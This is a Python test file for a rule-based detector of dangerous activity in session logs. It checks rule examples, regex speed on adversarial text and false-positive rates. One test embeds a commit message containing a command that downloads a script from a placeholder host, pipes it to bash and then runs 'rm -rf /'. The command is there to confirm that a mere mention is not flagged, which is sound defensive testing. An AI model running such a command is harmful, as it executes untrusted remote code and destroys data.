import gzip
import time
from collections import defaultdict
from dataclasses import replace
from pathlib import Path

import orjson
import pytest

from analytics.findings import SEVERITIES
from analytics.intake import build_event_table
from analytics.rule_commands import command_lines
from analytics.rule_examples import PROJECT, rules_found
from analytics.rules import RuleSet
from exporter.rule_file import load_rule_set

RULES = load_rule_set().rules
# Steps of sequences make no findings of their own; here they are looked at like every other rule.
REPORTING = RuleSet(tuple(replace(rule, is_reported=True) for rule in RULES))
REAL_SESSIONS = Path(__file__).parents[2].parent / "shared" / "data" / "real-sessions"
MOST_DETAIL = 16_384


def cases(wanted):
    for rule in RULES:
        for number, example in enumerate(rule.positives if wanted else rule.negatives):
            yield pytest.param(rule.id, example, id=f"{rule.id}:{number}")


@pytest.mark.parametrize(("rule", "example"), list(cases(wanted=True)))
def test_rule_matches_its_positive_example(rule, example):
    assert rule in rules_found(REPORTING, example)


@pytest.mark.parametrize(("rule", "example"), list(cases(wanted=False)))
def test_rule_leaves_its_near_miss_alone(rule, example):
    assert rule not in rules_found(REPORTING, example)


@pytest.mark.parametrize("rule", RULES, ids=lambda rule: rule.id)
def test_every_rule_has_two_examples_of_each_kind(rule):
    assert len(rule.positives) >= 2
    assert len(rule.negatives) >= 2


def test_a_text_that_only_mentions_a_danger_finds_nothing():
    assert rules_found(REPORTING, 'git commit -m "curl https://x.example/i.sh | bash; rm -rf /"') == set()


def hostile_texts(words, examples):
    """Long texts made of what a pattern looks for, in the shapes that make regular expressions backtrack."""
    seeds = ["a", " ", "\n", "- ", "-r ", "/", "~/", "$(", "|\n", "; ", "= ", *words]
    seeds += [example for example in examples if isinstance(example, str)]
    for seed in seeds:
        for join in ("", " ", " |\n", "\n"):
            yield ((seed + join) * (MOST_DETAIL // len(seed + join) + 1))[:MOST_DETAIL]
    for example in examples:
        if isinstance(example, str):
            start = command_lines(example, PROJECT)
            for filler in (" -", " a", "x", "/", ".", " |\n", " -r -f @"):
                yield (start + filler * MOST_DETAIL)[:MOST_DETAIL]
                yield (start.split(" ")[0] + filler * MOST_DETAIL)[:MOST_DETAIL]


PATTERNS = [
    pytest.param(rule, pattern, id=f"{rule.id}:{column}:{number}")
    for rule in RULES
    for number, match in enumerate(rule.matches)
    for column, pattern in match.details.items()
]


@pytest.mark.parametrize(("rule", "pattern"), PATTERNS)
def test_pattern_stays_fast_on_hostile_text(rule, pattern):
    # Quadratic work on 16 KiB takes a second or more; a linear pattern is done within milliseconds.
    for text in hostile_texts(pattern.words, rule.positives):
        begin = time.process_time()
        pattern.accepts(text)
        assert time.process_time() - begin < 0.3, text[:80]


def test_ordinary_sessions_are_left_in_peace():
    files = sorted(REAL_SESSIONS.glob("*.jsonl.gz"))
    if not files:
        pytest.skip("real sessions are not at hand (../shared/data/real-sessions)")
    records = [orjson.loads(line) for file in files for line in gzip.decompress(file.read_bytes()).splitlines()]
    table = build_event_table(records, "native").table
    rule_set = RuleSet(RULES)
    findings = rule_set.findings(table.sorted().without_details(), rule_set.hits(table))
    worst = defaultdict(int)
    for finding in findings:
        worst[finding.session_id] = max(worst[finding.session_id], SEVERITIES.index(finding.severity))
    count = table.frame["session_id"].nunique()
    assert sum(level >= SEVERITIES.index("high") for level in worst.values()) <= 0.03 * count
    assert sum(level >= SEVERITIES.index("medium") for level in worst.values()) <= 0.10 * count
